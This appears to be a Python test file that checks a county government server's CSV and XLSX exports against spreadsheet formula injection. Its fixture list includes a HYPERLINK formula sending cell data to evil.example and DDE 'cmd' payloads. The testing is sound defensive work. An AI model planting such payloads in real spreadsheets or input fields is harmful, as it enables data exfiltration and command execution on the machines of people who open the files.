"""Exports carry what townships typed: a name, a case number, a staff member or a software version made to look
like a formula stays text in XLSX and CSV, and long digit strings stay digits (formula injection, OWASP)."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from server.reports.exports import Column, Table, csv_text, to_csv, to_xlsx
from tests.server.helpers import ADMIN_TOKEN, CountyServer

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def test_text_cells_are_strings_in_xlsx_and_neutralised_in_csv():
    table = Table("t", [Column("申请人"), Column("代码", "code"), Column("数", "int"), Column("小时", "decimal")],
                  [[f, "513422100000", 5, -3.5] for f in FORMULAS] + [["扎西\x01\x1b", "0834001", 0, 0.0]])
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(table)))
    rows = list(wb.active.iter_rows(min_row=2))
    for row, formula in zip(rows, FORMULAS, strict=False):
        assert row[0].data_type == "s" and row[0].value == formula.replace("\r", "\n")  # XML keeps no bare CR
        assert row[1].data_type == "s" and row[1].value == "513422100000" and row[1].number_format == "@"
        assert row[2].value == 5 and row[3].value == -3.5  # numbers stay numbers
    assert rows[-1][0].value == "扎西\ufffd\ufffd"  # control characters XML cannot hold
    with zipfile.ZipFile(io.BytesIO(to_xlsx(table))) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets and "<f " not in sheets
    lines = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    for line, formula in zip(lines[1:], FORMULAS, strict=False):
        assert line[0] == "'" + formula
        assert line[1] == "\t513422100000"
        assert (line[2], line[3]) == ("5", "-3.5")
    assert lines[-1][1] == "\t0834001"  # the leading zero stays


@pytest.mark.parametrize(("text", "cell"), [("=1", "'=1"), ("-", "'-"), ("扎西", "扎西"), ("GG-0004", "GG-0004"),
                                            ("11010519491231002X", "11010519491231002X"), ("2026-03-02", "2026-03-02"),
                                            ("513422********1234", "513422********1234"), ("123", "\t123"), ("", "")])
def test_csv_text(text, cell):
    assert csv_text(text) == cell


async def _download(server: CountyServer, path: str) -> bytes:
    async with server.session.get(f"{server.url}{path}", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}) as r:
        assert r.status == 200, await r.text()
        return await r.read()


async def test_a_township_pushing_formulas_gets_none_into_the_countys_exports(county_server, qiaowa):
    attack = FORMULAS[0]
    accepted = qiaowa.accepted(applicant_name=attack, staff="+cmd|' /C calc'!A0", case_no="=1+1")
    numbered = qiaowa.accepted(applicant_name="卓玛", phone="13800000000")
    answer = await county_server.push(qiaowa, [accepted, numbered])
    assert answer["stored"] == 2
    async with await county_server.post_push({"agent_id": qiaowa.agent_id, "events": [],
                                              "software_version": "@SUM(1+1)"}, token=qiaowa.token) as r:
        assert r.status == 200
    query = "period=2026-Q1&figure=accepted&format="
    xlsx = await _download(county_server, f"/api/v1/export/cases?{query}xlsx")
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        assert not re.search(r"<f[ >]", z.read("xl/worksheets/sheet1.xml").decode())
    ws = openpyxl.load_workbook(io.BytesIO(xlsx)).worksheets[0]
    header = [c.value for c in ws[1]]
    cells = {(r[header.index("申请人")].value, r[header.index("办件编号")].value): r for r in ws.iter_rows(min_row=2)}
    row = next(r for (name, _), r in cells.items() if name == attack)
    assert row[header.index("受理人")].value == "+cmd|' /C calc'!A0"
    assert all(c.data_type != "f" for c in row)
    digits = next(r for (name, _), r in cells.items() if name == "卓玛")[header.index("办件编号")]
    assert digits.data_type == "s" and digits.value == numbered["data"]["case_no"] and digits.value.isdigit()
    text = (await _download(county_server, f"/api/v1/export/cases?{query}csv")).decode("utf-8-sig")
    assert f"'{attack}".replace('"', '""') in text and "'+cmd|' /C calc'!A0" in text and "'=1+1" in text
    assert "\t" + numbered["data"]["case_no"] in text
    agents = (await _download(county_server, "/api/v1/export/agents?format=csv")).decode("utf-8-sig")
    assert "'@SUM(1+1)" in agents
    ws = openpyxl.load_workbook(io.BytesIO(await _download(county_server, "/api/v1/export/agents?format=xlsx"))).active
    version = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == "@SUM(1+1)"]
    assert version and version[0].data_type == "s"
